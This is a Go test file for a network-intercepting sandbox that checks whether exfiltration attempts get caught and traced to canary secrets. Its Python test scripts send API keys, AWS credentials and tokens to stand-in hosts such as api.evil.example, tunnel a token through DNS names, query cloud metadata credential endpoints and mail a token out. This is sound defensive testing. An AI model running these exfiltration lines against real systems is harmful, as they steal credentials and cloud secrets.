package sandbox

import (
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// python runs a script in a sandbox.
func python(t *testing.T, c Config, script string, args ...string) (*Sandbox, string) {
	t.Helper()
	path, err := exec.LookPath("/usr/bin/python3")
	if err != nil {
		t.Skip(err)
	}
	s := newSandbox(t, c)
	cmd := exec.Command(path, append([]string{"-c", script}, args...)...)
	cmd.Env = os.Environ()
	out, err := s.run(t, cmd)
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if err := s.Close(); err != nil {
		t.Error(err)
	}
	return s, out
}

// eventsOf are the events of some kinds.
func (s *Sandbox) eventsOf(kinds ...EventKind) (out []Event) {
	for _, e := range s.Events(1) {
		if slices.Contains(kinds, e.Kind) {
			out = append(out, e)
		}
	}
	return out
}

func TestRequestsEndInTheSinkhole(t *testing.T) {
	s, out := python(t, Config{}, `
import urllib.request, os, socket
print(urllib.request.urlopen("https://api.evil.example/collect?k=" + os.environ["OPENAI_API_KEY"]).read())
print(urllib.request.urlopen("http://203.0.113.9:8123/x", data=open(os.path.expanduser("~/.aws/credentials"),"rb").read()).read())
c = socket.create_connection(("raw.evil.example", 4444)); c.sendall(b"hello " + os.environ["GITHUB_TOKEN"].encode()); c.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b"datagram", ("198.51.100.7", 9999))
`)
	var got []string
	for _, e := range s.eventsOf(Lookup, Connection, Request, Data, FileAccess) {
		if e.Method == "AAAA" || e.Path != "" && e.Path != "~/.aws/credentials" {
			continue
		}
		got = append(got, fmt.Sprint(e.Kind, " ", e.Network, " ", e.Host, e.Path, " ", e.Canaries))
	}
	want := []string{
		"lookup udp api.evil.example []", "connection tcp api.evil.example []", "request tls api.evil.example [env_openai_key]",
		"file_access  ~/.aws/credentials [aws_secret_key]", "connection tcp 203.0.113.9 []", "request tcp 203.0.113.9 [aws_secret_key]",
		"lookup udp raw.evil.example []", "connection tcp raw.evil.example []", "data tcp raw.evil.example [env_github_token]", "data udp 198.51.100.7 []",
	}
	slices.Sort(got) // some of them happen at the same time
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("got\n%s\nwant\n%s\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"), out)
	}
}

func TestNamesCarryCanariesOut(t *testing.T) {
	s, _ := python(t, Config{}, `
import os, socket, binascii
secret = binascii.hexlify(os.environ["NPM_TOKEN"].encode()).decode()
for i in range(0, len(secret), 20):
    try: socket.gethostbyname("%d.%s.dns.example" % (i // 20, secret[i:i+20]))
    except OSError as e: print(e)
`)
	for _, e := range s.eventsOf(Lookup) {
		if slices.Contains(e.Canaries, "env_npm_token") {
			return
		}
	}
	t.Errorf("the token that was cut into names was not seen: %+v", s.eventsOf(Lookup))
}

func TestMetadataServiceHandsOutCanaries(t *testing.T) {
	s, out := python(t, Config{}, `
import urllib.request
for url in ["http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
            "http://169.254.170.2/v2/credentials/5f1c", "http://169.254.169.254/metadata/identity/oauth2/token?resource=x"]:
    print(urllib.request.urlopen(url).read().decode())
`)
	for _, name := range []string{"imds_aws_secret_key", "gcp_access_token", "ecs_aws_secret_key", "azure_access_token"} {
		if !strings.Contains(out, s.find(name).Value) {
			t.Errorf("%s was not handed out:\n%s", name, out)
		}
	}
}

func TestServices(t *testing.T) {
	c := Config{Services: []Service{
		{Addr: netip.MustParseAddrPort("127.0.0.1:8099"), Body: "the inner service says 7261"},
		{Addr: netip.MustParseAddrPort("10.1.2.3:80"), Name: "redirect.example", Status: 302, Header: map[string]string{"Location": "http://127.0.0.1:8099/"}},
	}}
	s := newSandbox(t, c)
	const token = "k3j9x2wqb7"
	path, err := exec.LookPath("/usr/bin/python3")
	if err != nil {
		t.Skip(err)
	}
	cmd := exec.Command(path, "-c", "import urllib.request,sys\nprint(urllib.request.urlopen('http://redirect.example/').read())\nurllib.request.urlopen(sys.argv[1])", "http://"+token+".example.net/"+token)
	cmd.Env = os.Environ()
	end := s.BeginCall("fetch")
	out, err := s.run(t, cmd)
	end()
	if err != nil || !strings.Contains(out, "the inner service says 7261") {
		t.Errorf("%v: %s", err, out)
	}
	if !slices.ContainsFunc(s.eventsOf(Request), func(e Event) bool { return strings.Contains(e.URL, token) && e.Call == "fetch" }) {
		t.Errorf("no request for the token during the call: %+v", s.Events(1))
	}
}

// A program that listens inside is reached by others inside, and by nobody else.
func TestLoopbackBelongsToTheServer(t *testing.T) {
	s, out := python(t, Config{}, `
import socket
l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen()
c = socket.create_connection(l.getsockname()); a, _ = l.accept(); c.sendall(b"hi"); print(a.recv(2))
try: socket.create_connection(("127.0.0.1", 5432))
except ConnectionRefusedError: print("refused")
`)
	if !strings.Contains(out, "b'hi'") || !strings.Contains(out, "refused") || len(s.eventsOf(Connection)) != 0 {
		t.Errorf("%s %+v", out, s.eventsOf(Connection))
	}
}

func TestMailIsTaken(t *testing.T) {
	s, out := python(t, Config{}, `
import smtplib, os
with smtplib.SMTP("mail.evil.example", 25, timeout=20) as m:
    m.sendmail("a@example.com", ["b@evil.example"], "Subject: x\n\n" + os.environ["SLACK_BOT_TOKEN"])
print("sent")
`)
	events := s.eventsOf(Mail)
	if !strings.Contains(out, "sent") || len(events) != 1 || !slices.Equal(events[0].Canaries, []string{"env_slack_token"}) || !strings.Contains(events[0].Text, "b@evil.example") {
		t.Errorf("%s %+v", out, events)
	}
}

func TestChangedFilesAreEvents(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "kept.txt"), []byte("as it was"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := newSandbox(t, Config{})
	cmd := exec.Command("/bin/sh", "-c", "echo x >> ~/.bashrc; echo y > new.txt; echo z >> kept.txt; mkdir -p /tmp/a; echo w > /tmp/a/b; rm ~/.profile")
	cmd.Env, cmd.Dir = os.Environ(), dir
	if out, err := s.run(t, cmd); err != nil {
		t.Fatal(err, out)
	}
	if text, err := s.ReadFile("/tmp/a/b", 100); err != nil || string(text) != "w\n" {
		t.Errorf("ReadFile: %q, %v", text, err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range s.eventsOf(FileChange) {
		got = append(got, e.Text+" "+strings.NewReplacer(dir, "DIR", s.view.home, "~").Replace(e.Path))
	}
	slices.Sort(got)
	if want := []string{"changed DIR/kept.txt", "changed ~/.bashrc", "created /tmp/a/b", "created DIR/new.txt", "deleted ~/.profile"}; !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
	if text, _ := os.ReadFile(filepath.Join(dir, "kept.txt")); string(text) != "as it was" {
		t.Errorf("the file outside was changed: %q", text)
	}
}

// Connections beyond those that are made at a time are told of, with where they lead; one that is begun twice is one.
func TestMoreConnectionsThanAreMade(t *testing.T) {
	r := newRecorder(time.Now, nil)
	d := &device{beginning: map[[2]netip.AddrPort][]byte{}, out: newOutlet(r.record, r.currentCall, nil, newNameTable(nil))}
	from := func(port int) netip.AddrPort { return netip.AddrPortFrom(ownAddress, uint16(port)) }
	to := netip.MustParseAddrPort("203.0.113.9:4444")
	for port := range maxBeginning {
		d.begin(from(port+1), to)
		d.begin(from(port+1), to) // sent again
	}
	if len(r.events) != 0 {
		t.Fatalf("as many as are made: %s", told(r.events))
	}
	d.begin(from(maxBeginning+1), to)
	d.made(from(1), to)
	d.begin(from(maxBeginning+2), to)
	var kinds []EventKind
	for _, e := range r.events {
		kinds = append(kinds, e.Kind)
	}
	if !slices.Equal(kinds, []EventKind{Limit, Connection}) || r.events[1].Addr != to.String() {
		t.Errorf("one too many: %s", told(r.events))
	}
}

// What came on a connection is kept until it is made: the one that is reset before has nobody else who heard it.
func TestEarlyBytes(t *testing.T) {
	r := newRecorder(time.Now, nil)
	d := &device{beginning: map[[2]netip.AddrPort][]byte{}, out: newOutlet(r.record, r.currentCall, nil, newNameTable(nil))}
	all := packets{out: d.out, begun: d.begin, said: d.hear}
	segment := func(flags byte, payload string) []byte {
		size := 40 + len(payload)
		return append([]byte{0x45, 0, byte(size >> 8), byte(size), 0, 0, 0, 0, 64, protocolTCP, 0, 0, 10, 0, 2, 15, 203, 0, 113, 9,
			4, 0, 17, 92, 0, 0, 0, 0, 0, 0, 0, 0, 0x50, flags, 0, 0, 0, 0, 0, 0}, payload...)
	}
	const syn, ack = 2, 16
	all.take(segment(ack, "unknown"))
	all.take(segment(syn, "fast "))
	all.take(segment(ack, "open"))
	all.take(segment(ack, strings.Repeat("x", maxEarly/2)))
	all.take(segment(ack, strings.Repeat("x", maxEarly/2)))
	from, to := netip.MustParseAddrPort("10.0.2.15:1024"), netip.MustParseAddrPort("203.0.113.9:4444")
	if got := d.made(from, to); !strings.HasPrefix(string(got), "fast openxx") || len(got) != maxEarly {
		t.Errorf("%d bytes, beginning with %.20q", len(got), got)
	}
	if got := d.made(from, to); got != nil {
		t.Errorf("again: %d bytes", len(got))
	}
}
